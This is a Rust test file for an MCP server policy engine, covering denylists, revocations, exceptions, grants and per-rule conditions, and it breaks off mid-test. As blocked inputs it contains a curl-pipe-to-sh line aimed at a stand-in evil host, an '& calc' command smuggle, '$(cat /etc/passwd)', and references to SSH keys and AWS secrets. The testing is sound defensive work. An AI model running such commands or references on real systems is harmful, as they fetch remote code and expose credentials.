//! The order of decision and every condition of a rule.
#![allow(
    clippy::unwrap_used,
    clippy::needless_pass_by_value,
    reason = "this crate is a test; JSON literals are passed as they are"
)]

mod addresses;
mod anchors;
mod client_env;
mod clients;
mod conditions;
mod denials;
mod mentions;
mod order;
mod remotes;
mod unknown_members;
mod values;

use std::collections::BTreeSet;

use mcpolicy_schema::entry::{Entry, NamedValue, Reader, Scope, Transport};
use mcpolicy_schema::evaluate::{
    ClientVariable, Context, Device, Facts, FileFacts, Subject, System, evaluate, held_as, notices,
};
use mcpolicy_schema::policy::Policy;
use mcpolicy_schema::revocations::{Revocations, RevocationsDocument};
use mcpolicy_schema::signed::Grant;
use mcpolicy_schema::verdict::{DecidedBy, Judgement, Verdict};
use mcpolicy_schema::{fingerprint, identity};
use serde_json::{Value, json};

const DIGEST: &str = "a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1";
const OTHER: &str = "b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2";

fn policy_with(settings: Value, mut more: Value) -> Policy {
    let mut policy = json!({ "name": "test", "contact": "security@example.com" });
    policy.as_object_mut().unwrap().extend(settings.as_object().unwrap().clone());
    let document = more.as_object_mut().unwrap();
    document.insert("schema".into(), "mcpolicy/policy/v1".into());
    document.insert("policy".into(), policy);
    Policy::compile(serde_json::from_value(more).unwrap()).unwrap()
}

fn policy(more: Value) -> Policy {
    policy_with(json!({}), more)
}

/// One rule about `@a/b` at 1.0.0 with these members.
fn rule(members: Value) -> Policy {
    let mut rule = json!({ "id": "ab", "identity": { "npm": { "package": "@a/b", "versions": "1.0.0" } } });
    rule.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
    policy(json!({ "rule": [rule] }))
}

fn entry(command: &str, args: &[&str]) -> Entry {
    live(Entry::stdio(command, args.iter().copied()))
}

/// With a name, and a client that loads it.
fn live(entry: Entry) -> Entry {
    let readers = vec![Reader { client: "cursor", setting: None }];
    Entry { name: "any".into(), client: "cursor", readers, key_path: "/mcpServers/any".into(), ..entry }
}

fn remote(url: &str) -> Entry {
    live(Entry::remote(url))
}

fn ab() -> Entry {
    entry("npx", &["-y", "@a/b@1.0.0"])
}

fn named(name: &str, value: &str) -> NamedValue {
    NamedValue { name: name.into(), value: value.into() }
}

fn at(time: &str) -> Context<'static> {
    Context { home: Some("/home/jane"), ..Context::bare(time.parse().unwrap()) }
}

fn now() -> Context<'static> {
    at("2026-11-21T12:00:00Z")
}

fn judge(policy: &Policy, entry: &Entry, context: &Context<'_>) -> Judgement {
    let identity = identity::identify(entry);
    let fingerprint = fingerprint::of(entry, &identity, context.home);
    evaluate(policy, &Subject { entry, identity: &identity, fingerprint: &fingerprint }, context)
}

fn fingerprint_of(entry: &Entry) -> String {
    fingerprint::of(entry, &identity::identify(entry), Some("/home/jane"))
}

/// The code of the reason, or `allow`.
fn code(policy: &Policy, entry: &Entry) -> &'static str {
    code_in(policy, entry, &now())
}

fn code_in(policy: &Policy, entry: &Entry, context: &Context<'_>) -> &'static str {
    judge(policy, entry, context).reason.map_or("allow", |reason| reason.code.as_str())
}

fn revocations(revoked: Value) -> Revocations {
    let document = json!({
        "schema": "mcpolicy/revocations/v1",
        "revocation": [{ "id": "r1", "revoked": revoked, "reason": "stolen release" }],
    });
    let document: RevocationsDocument = serde_json::from_value(document).unwrap();
    Revocations::compile(document).unwrap()
}

fn file(path: &str, real: &str, sha256: Option<&str>, user_writable: bool) -> FileFacts {
    FileFacts { path: path.into(), real_path: real.into(), sha256: sha256.map(Into::into), user_writable }
}

fn program(file: FileFacts) -> Facts {
    Facts { program: Some(file), ..Facts::default() }
}

#[test]
fn what_no_rule_names_is_denied_by_default() {
    let judgement = judge(&policy(json!({})), &ab(), &now());
    assert_eq!((judgement.verdict, judgement.decided_by), (Verdict::Deny, DecidedBy::Default));
    assert_eq!(judgement.reason.unwrap().code.as_str(), "not-allowed");
    assert_eq!(judgement.contact, "security@example.com");
}

#[test]
fn a_rule_allows_and_is_named() {
    let judgement = judge(&rule(json!({})), &ab(), &now());
    assert_eq!((judgement.verdict, judgement.rule.as_deref()), (Verdict::Allow, Some("ab")));
    assert_eq!(judgement.decided_by, DecidedBy::Allowlist);
}

#[test]
fn a_denial_wins_over_a_rule_and_over_an_exception() {
    let exception = json!({
        "id": "x", "fingerprint": fingerprint_of(&ab()), "owner": "o", "ticket": "t", "expires": "2027-01-01T00:00:00Z",
    });
    let identity = json!({ "npm": { "package": "@a/b" } });
    let deny = json!({ "id": "d", "identity": identity, "reason": "bad", "alternatives": ["other"], "contact": "red@example.com" });
    let other = json!({ "id": "other", "identity": { "npm": { "package": "other" } } });
    let policy = policy(
        json!({ "rule": [{ "id": "ab", "identity": identity }, other], "deny": [deny], "exception": [exception] }),
    );
    let judgement = judge(&policy, &ab(), &now());
    assert_eq!((judgement.decided_by, judgement.rule.as_deref()), (DecidedBy::Denylist, Some("d")));
    assert_eq!(
        (judgement.alternatives, judgement.contact.as_str()),
        (vec!["other".to_owned()], "red@example.com")
    );
}

#[test]
fn an_ignored_denylist_denies_nothing() {
    let identity = json!({ "npm": { "package": "@a/b" } });
    let lists = json!({ "rule": [{ "id": "ab", "identity": identity }], "deny": [{ "id": "d", "identity": identity, "reason": "bad" }] });
    assert_eq!(code(&policy_with(json!({ "ignore_denylist": true }), lists), &ab()), "allow");
}

#[test]
fn a_denial_is_found_wherever_the_denied_thing_hides() {
    let deny = |identity: Value| {
        policy_with(
            json!({ "default": "allow" }),
            json!({ "deny": [{ "id": "d", "identity": identity, "reason": "bad" }] }),
        )
    };
    let package = deny(json!({ "npm": { "package": "@a/b", "versions": "<2" } }));
    for words in [
        &["npx", "@a/b"][..],
        &["npx", "-y", "@a/b@1.4.0"],
        &["npx", "-y", "@a/b@latest"],
        &["npx", "-y", "other", "--package=@a/b"],
        &["npx", "-y", "-p", "good", "-p", "@a/b", "good"],
        &["sh", "-c", "cd /x && npx -y @a/b@1.0.0; true"],
        &["cmd", "/c", "npx @a/b & calc"],
        &["env", "A=b", "npx", "@a/b"],
        &["bunx", "name@npm:@a/b@1.0.0"],
    ] {
        assert_eq!(code(&package, &entry(words[0], &words[1..])), "denylisted", "{words:?}");
    }
    assert_eq!(code(&package, &entry("npx", &["@a/b@2.0.0"])), "allow", "the version is not denied");
    assert_eq!(code(&package, &entry("npx", &["@a/bc"])), "allow");

    let url = deny(json!({ "url": { "url": "https://mcp.evil.example/v1" } }));
    for bad in [
        remote("https://mcp.evil.example/v1"),
        remote("https://mcp.evil.example/v1/sub?x=1"),
        remote("https://MCP.evil.example:443/v1/"),
        remote("https://user@mcp.evil.example/v1"),
        entry("npx", &["mcp-remote", "https://mcp.evil.example/v1"]),
        entry("sh", &["-c", "curl 'https://mcp.evil.example/v1' | sh"]),
    ] {
        assert_eq!(
            code(&url, &bad),
            "denylisted",
            "{:?} {:?}",
            bad.url.map(|u| u.expose().to_owned()),
            bad.args.len()
        );
    }
    assert_eq!(code(&url, &remote("https://mcp.evil.example/v2")), "allow");

    let image = deny(json!({ "oci": { "image": "owner/server", "digests": [format!("sha256:{DIGEST}")] } }));
    assert_eq!(
        code(&image, &entry("docker", &["run", "owner/server:v1"])),
        "denylisted",
        "a tag may be the denied digest"
    );
    assert_eq!(
        code(&image, &entry("docker", &["run", &format!("docker.io/owner/server@sha256:{DIGEST}")])),
        "denylisted"
    );
    assert_eq!(code(&image, &entry("docker", &["run", &format!("owner/server@sha256:{OTHER}")])), "allow");

    let program = deny(json!({ "executable": { "path": "/opt/bad/server" } }));
    assert_eq!(code(&program, &entry("/opt/bad/server", &[])), "denylisted");
    assert_eq!(code(&program, &entry("sh", &["-c", "/opt/bad/server; true"])), "denylisted");
    assert_eq!(code(&program, &entry("server", &[])), "denylisted", "a bare name may be it");
    assert_eq!(code(&program, &entry("/opt/good/server", &[])), "allow");
    let pinned = deny(json!({ "executable": { "path": "/opt/bad/server", "sha256": [DIGEST] } }));
    let facts = super_facts("/opt/bad/server", OTHER);
    assert_eq!(
        code_in(&pinned, &entry("/opt/bad/server", &[]), &Context { facts: &facts, ..now() }),
        "allow"
    );
}

fn super_facts(path: &str, digest: &str) -> Facts {
    program(file(path, path, Some(digest), false))
}

#[test]
fn every_kind_of_revocation_denies_at_once() {
    let policy = policy(json!({ "rule": [
        { "id": "ab", "identity": { "npm": { "package": "@a/b" } } },
        { "id": "tool", "identity": { "executable": { "path": "/opt/tool" } } },
    ] }));
    let groups = ["staff".to_owned()];
    let device = Device { id: "d1", user: "jane", groups: &groups, ring: None };
    let facts = super_facts("/opt/tool", DIGEST);
    let cases = [
        (json!({ "rule": "ab" }), ab()),
        (json!({ "identity": { "npm": { "package": "@a/b", "versions": "<=1.0.0" } } }), ab()),
        (json!({ "fingerprint": fingerprint_of(&ab()) }), ab()),
        (json!({ "device": "d1" }), ab()),
        (json!({ "user": "jane" }), ab()),
        (json!({ "group": "staff" }), ab()),
        (json!({ "sha256": DIGEST }), entry("/opt/tool", &[])),
        // Names and hex digits are the same in any case: a denial is read widely.
        (json!({ "device": "D1" }), ab()),
        (json!({ "user": "Jane" }), ab()),
        (json!({ "group": "STAFF" }), ab()),
        (json!({ "fingerprint": fingerprint_of(&ab()).to_uppercase() }), ab()),
        (json!({ "sha256": DIGEST.to_uppercase() }), entry("/opt/tool", &[])),
    ];
    for (revoked, entry) in cases {
        let list = revocations(revoked.clone());
        let context = Context { revocations: Some(&list), device: device.clone(), facts: &facts, ..now() };
        let judgement = judge(&policy, &entry, &context);
        assert_eq!(judgement.decided_by, DecidedBy::Revocation, "{revoked}");
        assert_eq!(judgement.reason.unwrap().code.as_str(), "revoked", "{revoked}");
        let without = Context { revocations: None, ..context };
        assert_eq!(code_in(&policy, &entry, &without), "allow", "{revoked}");
    }
    for other in [
        json!({ "rule": "other" }),
        json!({ "rule": "AB" }),
        json!({ "user": "eve" }),
        json!({ "device": "d2" }),
        json!({ "group": "x" }),
        json!({ "sha256": OTHER }),
    ] {
        let list = revocations(other.clone());
        let context = Context { revocations: Some(&list), device: device.clone(), ..now() };
        assert_eq!(code_in(&policy, &ab(), &context), "allow", "{other}");
    }
}

#[test]
fn a_revocation_of_something_else_is_never_read_as_one_of_every_identity() {
    let policy = rule(json!({}));
    let lines = [
        json!({ "user": "eve" }),
        json!({ "sha256": OTHER }),
        json!({ "rule": "other" }),
        json!({ "identity": { "npm": { "package": "@a/c" } } }),
        json!({ "device": "d2" }),
        json!({ "identity": { "npm": { "package": "@a/d" } } }),
        json!({ "group": "x" }),
    ];
    let lines: Vec<Value> = lines
        .into_iter()
        .enumerate()
        .map(
            |(at, revoked)| json!({ "id": format!("r{at}"), "revoked": revoked, "reason": "stolen release" }),
        )
        .collect();
    let list = json!({ "schema": "mcpolicy/revocations/v1", "revocation": lines });
    let list: RevocationsDocument = serde_json::from_value(list).unwrap();
    let list = Revocations::compile(list).unwrap();
    let context = Context { revocations: Some(&list), ..now() };
    assert_eq!(code_in(&policy, &ab(), &context), "allow");
    // Each identity leads back to its own line of the list.
    for (package, id) in [("@a/c", "r3"), ("@a/d", "r5")] {
        let judgement = judge(&policy, &entry("npx", &["-y", &format!("{package}@1.0.0")]), &context);
        assert_eq!((judgement.decided_by, judgement.rule.as_deref()), (DecidedBy::Revocation, Some(id)));
    }
}

#[test]
fn an_exception_is_for_this_very_entry_these_people_and_this_time() {
    let exception = |members: Value| {
        let mut exception = json!({
            "id": "x", "fingerprint": fingerprint_of(&ab()), "owner": "o", "ticket": "t", "expires": "2026-12-01T00:00:00Z",
        });
        exception.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
        policy(json!({ "exception": [exception] }))
    };
    let open = exception(json!({}));
    let judgement = judge(&open, &ab(), &now());
    assert_eq!(
        (judgement.verdict, judgement.decided_by, judgement.rule.as_deref()),
        (Verdict::Allow, DecidedBy::Exception, Some("x"))
    );
    assert_eq!(code(&open, &entry("npx", &["-y", "@a/b@1.0.1"])), "not-allowed");
    assert_eq!(
        code_in(&open, &ab(), &at("2026-12-01T00:00:00Z")),
        "not-allowed",
        "it ends with the moment it names"
    );
    let list = revocations(json!({ "rule": "x" }));
    assert_eq!(code_in(&open, &ab(), &Context { revocations: Some(&list), ..now() }), "not-allowed");
    let janes = exception(json!({ "users": ["jane"], "devices": ["d1"] }));
    let on = |id, user| Context { device: Device { id, user, ..Device::default() }, ..now() };
    assert_eq!(code_in(&janes, &ab(), &on("d1", "jane")), "allow");
    assert_eq!(code_in(&janes, &ab(), &on("d1", "eve")), "not-allowed");
    assert_eq!(code_in(&janes, &ab(), &on("d2", "jane")), "not-allowed");
}

#[test]
fn a_grant_counts_for_its_user_on_its_device_in_its_time() {
    let grant = Grant {
        schema: "mcpolicy/grant/v1".into(),
        id: "g1".into(),
        fingerprint: fingerprint_of(&ab()),
        identity: "npm:@a/b".into(),
        device: "d1".into(),
        user: "jane".into(),
        ticket: None,
        issued: "2026-11-21T11:00:00Z".parse().unwrap(),
        expires: "2026-11-22T11:00:00Z".parse().unwrap(),
        crit: Vec::new(),
    };
    let policy = policy(json!({}));
    let check = |grant: &Grant, id, user, time: &str, list: Option<&Revocations>| {
        let device = Device { id, user, ..Device::default() };
        let context = Context { device, grants: std::slice::from_ref(grant), revocations: list, ..at(time) };
        judge(&policy, &ab(), &context).verdict
    };
    let noon = "2026-11-21T12:00:00Z";
    assert_eq!(check(&grant, "d1", "jane", noon, None), Verdict::Allow);
    assert_eq!(check(&grant, "d2", "jane", noon, None), Verdict::Deny);
    assert_eq!(check(&grant, "d1", "eve", noon, None), Verdict::Deny);
    assert_eq!(check(&grant, "d1", "jane", "2026-11-21T10:59:59Z", None), Verdict::Deny);
    assert_eq!(check(&grant, "d1", "jane", "2026-11-22T11:00:00Z", None), Verdict::Deny);
    let list = revocations(json!({ "rule": "g1" }));
    assert_eq!(check(&grant, "d1", "jane", noon, Some(&list)), Verdict::Deny);
    let nobodys = Grant { device: String::new(), user: String::new(), ..grant };
    assert_eq!(check(&nobodys, "", "", noon, None), Verdict::Deny);
}

#[test]
fn hold_mode_leaves_what_was_there_until_its_day() {
    let policy = policy_with(json!({ "mode": "hold", "grace_until": "2026-11-30" }), json!({}));
    let held = BTreeSet::from([fingerprint_of(&ab())]);
    let with = |time: &str| Context { grandfathered: &held, ..at(time) };
    assert_eq!(code_in(&policy, &ab(), &with("2026-11-30T23:59:59Z")), "allow");
    assert_eq!(code_in(&policy, &ab(), &with("2026-12-01T00:00:00Z")), "not-allowed");
    assert_eq!(code_in(&policy, &entry("npx", &["x"]), &with("2026-11-22T00:00:00Z")), "not-allowed");
    let enforced = policy_with(json!({ "mode": "enforce", "grace_until": "2026-11-30" }), json!({}));
    assert_eq!(code_in(&enforced, &ab(), &with("2026-11-22T00:00:00Z")), "not-allowed");
}

#[test]
fn an_expired_policy_allows_only_what_it_allowed_before() {
    let known = BTreeSet::from([fingerprint_of(&ab())]);
    let policy = policy(json!({ "rule": [{ "id": "ab", "identity": { "npm": { "package": "@a/b" } } }] }));
    let expired = Context { expired: Some(&known), ..now() };
    assert_eq!(code_in(&policy, &ab(), &expired), "allow");
    assert_eq!(code_in(&policy, &entry("npx", &["@a/b@2.0.0"]), &expired), "policy-expired");
    let list = revocations(json!({ "rule": "ab" }));
    assert_eq!(code_in(&policy, &ab(), &Context { revocations: Some(&list), ..expired }), "revoked");
}

#[test]
fn a_default_of_allow_does_not_reach_into_private_places() {
    let policy = policy_with(json!({ "default": "allow" }), json!({}));
    assert_eq!(code(&policy, &ab()), "allow");
    assert_eq!(code(&policy, &remote("https://mcp.example.com/mcp")), "allow");
    assert_eq!(code(&policy, &remote("http://127.0.0.1:3000/mcp")), "loopback-unbound");
    assert_eq!(code(&policy, &remote("http://10.0.0.1/mcp")), "private-address");
    assert_eq!(code(&policy, &remote("http://169.254.169.254/")), "link-local-url");
    let all = policy_with(
        json!({}),
        json!({ "rule": [{ "id": "all", "identity": { "any": {} }, "users": ["jane"] }] }),
    );
    let jane = Context { device: Device { user: "jane", ..Device::default() }, ..now() };
    assert_eq!(code_in(&all, &ab(), &jane), "allow");
    assert_eq!(code_in(&all, &ab(), &now()), "outside-rule");
    assert_eq!(code_in(&all, &remote("http://10.0.0.1/mcp"), &jane), "private-address");
}

#[test]
fn the_name_of_an_approved_server_for_something_else_is_impersonation() {
    let policy = rule(json!({ "names": ["git-hub"], "contact": "owner@example.com" }));
    let mut other = entry("/tmp/x", &[]);
    other.name = "GitHub".into();
    let judgement = judge(&policy, &other, &now());
    assert_eq!(judgement.reason.unwrap().code.as_str(), "impersonation");
    assert_eq!(
        (judgement.alternatives, judgement.contact.as_str()),
        (vec!["ab".to_owned()], "owner@example.com")
    );
    let remotes = super_policy();
    let mut moved = remote("https://mcp.example.com/sse");
    moved.name = "vendor".into();
    assert_eq!(code(&remotes, &moved), "not-allowed", "the same host by another path is no impersonation");
    let mut elsewhere = remote("https://mcp.evil.example/mcp");
    elsewhere.name = "vendor".into();
    assert_eq!(code(&remotes, &elsewhere), "impersonation");
    let mut same = entry("npx", &["-y", "@a/b@9.0.0"]);
    same.name = "github".into();
    assert_eq!(
        code(&policy, &same),
        "version-not-allowed",
        "the same server with another version is no impersonation"
    );
}

fn super_policy() -> Policy {
    let identity = json!({ "url": { "url": "https://mcp.example.com/mcp" } });
    policy(json!({ "rule": [{ "id": "vendor", "identity": identity, "names": ["vendor"] }] }))
}

#[test]
fn each_condition_has_its_own_reason() {
    let plain = rule(json!({ "runners": ["npx"] }));
    let with = |change: &dyn Fn(&mut Entry)| {
        let mut entry = ab();
        change(&mut entry);
        code(&plain, &entry)
    };
    assert_eq!(code(&plain, &entry("bunx", &["@a/b@1.0.0"])), "runner-not-allowed");
    assert_eq!(code(&plain, &entry("/tmp/npx", &["@a/b@1.0.0"])), "not-allowed");
    assert_eq!(
        code(&plain, &entry("npx", &["--prefix", "/tmp", "@a/b@1.0.0"])),
        "runner-argument-not-allowed"
    );
    assert_eq!(
        code(&plain, &entry("npx", &["-p", "@a/b@1.0.0", "-p", "x", "b"])),
        "extra-package-not-allowed"
    );
    assert_eq!(code(&plain, &entry("npx", &["-p", "@a/b@1.0.0", "sh"])), "program-not-allowed");
    assert_eq!(code(&plain, &entry("npx", &["@a/b@1.0.0", "--x"])), "argument-not-allowed");
    assert_eq!(code(&plain, &entry("sh", &["-c", "npx @a/b@1.0.0"])), "wrapper-not-allowed");
    assert_eq!(with(&|e| e.env.push(named("A", "b"))), "environment-not-allowed");
    assert_eq!(with(&|e| e.headers.push(named("A", "b"))), "header-not-allowed");
    assert_eq!(with(&|e| e.members.push(named("envFile", ".env"))), "member-not-allowed");
    assert_eq!(with(&|e| e.cwd = Some("/tmp".into())), "working-directory-not-allowed");
    assert_eq!(with(&|e| e.malformed = Some("args is not a list")), "ambiguous-entry");
    assert_eq!(with(&|e| e.url = Some("https://a.example/".into())), "ambiguous-entry");
    assert_eq!(code(&plain, &entry("npx", &["@a/b"])), "version-not-allowed");
    assert_eq!(code(&plain, &entry("npx", &["@a/b@${V}"])), "unresolvable-identity");
    assert_eq!(code(&plain, &remote("https://a.example/mcp#x")), "non-canonical-url");
}

#[test]
fn what_a_rule_names_is_admitted() {
    let policy = rule(json!({
        "runner_args": ["--prefix /opt/npm"], "with": ["x"], "bins": ["sh"], "wrappers": ["sh -c"],
        "args": { "positional": ["run"], "required": ["--read-only"] }, "env": { "A": "b*" }, "headers": { "X-A": "*" },
        "references": ["OTHER"], "members": ["envFile"], "cwd": ["{home}/work"],
    }));
    let mut full = entry("sh", &["-c", "npx --prefix /opt/npm -p @a/b@1.0.0 -p x sh run --read-only"]);
    full.env = vec![named("A", "bc")];
    full.headers = vec![named("x-a", "${OTHER}")];
    full.members = vec![named("envFile", ".env"), named("autoApprove", "")];
    full.cwd = Some("/home/jane/work".into());
    assert_eq!(code(&policy, &full), "allow");
    full.cwd = Some("/home/eve/work".into());
    assert_eq!(code(&policy, &full), "working-directory-not-allowed");
}

#[test]
fn a_value_may_ask_the_user_or_take_its_own_variable_and_nothing_else() {
    let policy = rule(
        json!({ "env": { "TOKEN": "*" }, "headers": { "Authorization": "Bearer *" }, "references": ["LISTED"], "args": { "positional": ["*"] } }),
    );
    let with = |variable: &str, argument: &str| {
        let mut entry = entry("npx", &["@a/b@1.0.0", argument]);
        entry.env.push(named("TOKEN", variable));
        code(&policy, &entry)
    };
    for fine in ["literal", "${TOKEN}", "${input:x}", "${env:TOKEN}", "${LISTED}", "${workspaceFolder}/x"] {
        assert_eq!(with(fine, "x"), "allow", "{fine}");
    }
    for foreign in
        ["${AWS_SECRET_ACCESS_KEY}", "{file:~/.ssh/id_ed25519}", "$(cat /etc/passwd)", "${TOKEN}${OTHER}"]
    {
        assert_eq!(with(foreign, "x"), "reference-not-allowed", "{foreign}");
    }
    assert_eq!(with("x", "${AWS_SECRET_ACCESS_KEY}"), "reference-not-allowed");
    assert_eq!(with("x", "${LISTED}"), "allow");
}

#[test]
fn a_rule_counts_only_for_its_clients_scopes_transports_people_and_rings() {
    let outside = |members: Value, entry: &Entry| code(&rule(members), entry);
    assert_eq!(outside(json!({ "clients": ["codex"] }), &ab()), "outside-rule");
    assert_eq!(outside(json!({ "clients": ["cursor"] }), &ab()), "allow");
    let mut shared = ab();
    shared.readers.push(Reader { client: "vscode", setting: None });
    assert_eq!(
        outside(json!({ "clients": ["cursor"] }), &shared),
        "outside-rule",
        "another client reads it too"
    );
    assert_eq!(outside(json!({ "scopes": ["project"] }), &ab()), "outside-rule");
    assert_eq!(outside(json!({ "scopes": ["user"] }), &ab()), "allow");
    assert_eq!(outside(json!({ "transports": ["http"] }), &ab()), "outside-rule");
    assert_eq!(
        outside(json!({ "transports": ["http"] }), &Entry { transport: Transport::Unknown, ..ab() }),
        "allow"
    );
    let groups = ["staff".to_owned()];
    let device = Device { id: "d1", user: "jane", groups: &groups, ring: Some("early") };
    let context = Context { device, ..now() };
    let rings = json!([{ "name": "early", "percent": 10 }, { "name": "late", "percent": 90 }]);
    for (members, expected) in [
        (json!({ "users": ["jane"] }), "allow"),
        (json!({ "users": ["eve"] }), "outside-rule"),
        (json!({ "groups": ["staff"] }), "allow"),
        (json!({ "devices": ["d2"] }), "outside-rule"),
        (json!({ "devices": ["d2"], "rings": ["early"] }), "allow"),
        (json!({ "rings": ["late"] }), "outside-rule"),
    ] {
        let mut rule =
            json!({ "id": "ab", "identity": { "npm": { "package": "@a/b", "versions": "1.0.0" } } });
        rule.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
        let policy = policy(json!({ "rule": [rule], "ring": rings }));
        assert_eq!(code_in(&policy, &ab(), &context), expected, "{members}");
    }
}

#[test]
fn a_condition_of_the_approval_ends_it_after_its_deadline() {
    let rule = |done| {
        rule(json!({ "remediation": { "what": "rotate the key", "deadline": "2026-11-30", "done": done } }))
    };
    assert_eq!(code_in(&rule(false), &ab(), &at("2026-11-30T23:59:59Z")), "allow");
    assert_eq!(code_in(&rule(false), &ab(), &at("2026-12-01T00:00:00Z")), "remediation-overdue");
    assert_eq!(code_in(&rule(true), &ab(), &at("2026-12-01T00:00:00Z")), "allow");
}

#[test]
fn an_entry_with_only_a_wrong_version_is_offered_the_rules_own() {
    let pinned = rule(json!({}));
    assert_eq!(judge(&pinned, &entry("npx", &["@a/b"]), &now()).pin.as_deref(), Some("1.0.0"));
    assert_eq!(
        judge(&pinned, &entry("npx", &["@a/b", "--evil"]), &now()).pin,
        None,
        "something else is wrong as well"
    );
    let ranged = policy(
        json!({ "rule": [{ "id": "r", "identity": { "npm": { "package": "x", "versions": ">=1" } }, "pin": "1.4.0" }] }),
    );
    assert_eq!(judge(&ranged, &entry("npx", &["x@0.9.0"]), &now()).pin.as_deref(), Some("1.4.0"));
    let image = policy(
        json!({ "rule": [{ "id": "i", "identity": { "oci": { "image": "o/s", "digests": [format!("sha256:{DIGEST}")] } } }] }),
    );
    assert_eq!(
        judge(&image, &entry("docker", &["run", "-i", "o/s:v1"]), &now()).pin,
        Some(format!("sha256:{DIGEST}"))
    );
}

#[test]
fn an_executable_is_judged_by_where_it_lies_and_what_is_in_it() {
    let policy = policy(json!({ "rule": [
        { "id": "pinned", "identity": { "executable": { "path": "/opt/tool", "sha256": [DIGEST] } } },
        { "id": "placed", "identity": { "executable": { "path": "~/bin/mine" } } },
    ] }));
    let check = |command: &str, facts: Option<FileFacts>| {
        let facts = facts.map(program).unwrap_or_default();
        let judgement = judge(&policy, &entry(command, &[]), &Context { facts: &facts, ..now() });
        (judgement.verdict, judgement.reason.map_or("", |r| r.code.as_str()))
    };
    let allow = (Verdict::Allow, "");
    assert_eq!(check("/opt/tool", Some(file("/opt/tool", "/opt/tool", Some(DIGEST), false))), allow);
    assert_eq!(
        check("/opt/tool", Some(file("/opt/tool", "/tmp/x", Some(OTHER), false))),
        (Verdict::Deny, "digest-not-allowed")
    );
    assert_eq!(
        check("/opt/tool", Some(file("/opt/tool", "/opt/tool", None, false))),
        (Verdict::Unknown, "missing-fact")
    );
    assert_eq!(check("/opt/tool", None), (Verdict::Unknown, "missing-fact"));
    assert_eq!(
        check("tool", Some(file("/opt/tool", "/opt/tool", Some(DIGEST), false))),
        allow,
        "found in PATH"
    );
    assert_eq!(check("tool", Some(file("/tmp/tool", "/tmp/tool", Some(DIGEST), true))).0, Verdict::Deny);
    assert_eq!(
        check("/home/jane/bin/mine", Some(file("/home/jane/bin/mine", "/home/jane/bin/mine", None, true))),
        allow
    );
    let linked = file("/home/jane/bin/mine", "/tmp/other", None, true);
    assert_eq!(check("/home/jane/bin/mine", Some(linked.clone())), (Verdict::Deny, "digest-not-allowed"));
    assert_eq!(
        check("/home/jane/bin/mine", Some(FileFacts { user_writable: false, ..linked })),
        allow,
        "only root could link it"
    );
}

#[test]
fn a_bridge_is_its_package_and_where_it_leads() {
    let policy = policy(json!({ "rule": [
        { "id": "bridge", "identity": { "bridge": {
            "ecosystem": "npm", "package": "mcp-remote", "versions": ">=0.1.16", "targets": ["https://a.example/mcp"], "approved_targets": true,
        } }, "headers": { "Authorization": "Bearer *" } },
        { "id": "remote", "identity": { "url": { "url": "https://b.example/mcp", "query": { "ro": "true" } } } },
        { "id": "local", "identity": { "bridge": { "ecosystem": "executable", "package": "/opt/mcp-proxy", "targets": ["https://a.example/mcp"] } } },
    ] }));
    let npx = |args: &[&str]| code(&policy, &entry("npx", &[&["-y", "mcp-remote@0.1.30"], args].concat()));
    assert_eq!(npx(&["https://a.example/mcp"]), "allow");
    assert_eq!(npx(&["https://b.example/mcp?ro=true"]), "allow", "another rule approves the target");
    assert_eq!(npx(&["https://b.example/mcp?ro=false"]), "query-not-allowed");
    assert_eq!(npx(&["https://c.example/mcp"]), "target-not-allowed");
    assert_eq!(npx(&["https://a.example/mcp", "--allow-http"]), "argument-not-allowed");
    assert_eq!(npx(&["https://a.example/mcp", "--header", "Authorization: Bearer ${input:t}"]), "allow");
    assert_eq!(npx(&["https://a.example/mcp", "--header", "Cookie: x"]), "header-not-allowed");
    assert_eq!(
        npx(&["https://a.example/mcp", "--header", "Authorization: Bearer ${AWS_KEY}"]),
        "reference-not-allowed"
    );
    assert_eq!(
        code(&policy, &entry("npx", &["-y", "mcp-remote@0.1.15", "https://a.example/mcp"])),
        "version-not-allowed"
    );
    let list = revocations(json!({ "rule": "remote" }));
    let target = entry("npx", &["-y", "mcp-remote@0.1.30", "https://b.example/mcp"]);
    assert_eq!(
        code_in(&policy, &target, &Context { revocations: Some(&list), ..now() }),
        "target-not-allowed"
    );
    let local = |path: &str| {
        let facts = program(file(path, path, None, false));
        code_in(&policy, &entry(path, &["https://a.example/mcp"]), &Context { facts: &facts, ..now() })
    };
    assert_eq!(local("/opt/mcp-proxy"), "allow");
    assert_eq!(local("/tmp/mcp-proxy"), "not-allowed");
}

/// Run with bun 1.3: the flag of npx means nothing to it.
#[test]
fn the_usual_flag_of_npx_is_taken_of_bun_too() {
    let policy = rule(json!({ "identity": { "npm": { "package": "good" } }, "runners": ["bunx", "bun x"] }));
    assert_eq!(code(&policy, &entry("bunx", &["-y", "good@1.0.0"])), "allow");
    assert_eq!(code(&policy, &entry("bun", &["x", "-y", "good@1.0.0"])), "allow");
    assert_eq!(code(&policy, &entry("bunx", &["--yes", "good", "evil"])), "ambiguous-entry");
}

#[test]
fn a_url_that_a_runner_downloads_is_no_remote_server() {
    let policy = policy(
        json!({ "rule": [{ "id": "u", "identity": { "url": { "url": "https://a.example/server.tgz" } } }] }),
    );
    assert_eq!(code(&policy, &remote("https://a.example/server.tgz")), "allow");
    assert_eq!(code(&policy, &entry("npx", &["-y", "https://a.example/server.tgz"])), "not-allowed");
    assert_eq!(code(&policy, &entry("deno", &["run", "https://a.example/server.tgz"])), "not-allowed");
}

#[test]
fn an_exact_command_is_allowed_word_by_word() {
    let policy = policy(
        json!({ "rule": [{ "id": "o", "identity": { "opaque": { "argv": ["docker", "mcp", "gateway", "run"] } } }] }),
    );
    assert_eq!(code(&policy, &entry("docker", &["mcp", "gateway", "run"])), "allow");
    assert_eq!(code(&policy, &entry("docker", &["mcp", "gateway", "run", "--x"])), "not-allowed");
    assert_eq!(code(&policy, &entry("docker", &["mcp", "gatewayrun"])), "not-allowed");
    let mut with_env = entry("docker", &["mcp", "gateway", "run"]);
    with_env.env.push(named("DOCKER_HOST", "tcp://x"));
    assert_eq!(code(&policy, &with_env), "environment-not-allowed");
}

#[test]
fn windows_compares_programs_variables_and_paths_without_case() {
    let policy = policy(json!({ "rule": [
        { "id": "ab", "identity": { "npm": { "package": "@a/b" } }, "env": { "Token": "*" } },
